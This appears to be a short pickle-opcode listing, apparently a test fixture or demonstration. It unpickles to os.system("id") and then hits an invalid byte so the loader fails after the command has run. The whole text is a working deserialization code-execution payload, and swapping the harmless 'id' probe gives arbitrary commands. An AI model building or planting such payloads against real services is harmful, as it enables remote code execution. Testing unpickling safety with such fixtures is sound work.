# The payload has run when the loader meets the byte that is no opcode.
PROTO 2
GLOBAL os system
BINUNICODE "id"
TUPLE1
REDUCE
RAW ffff
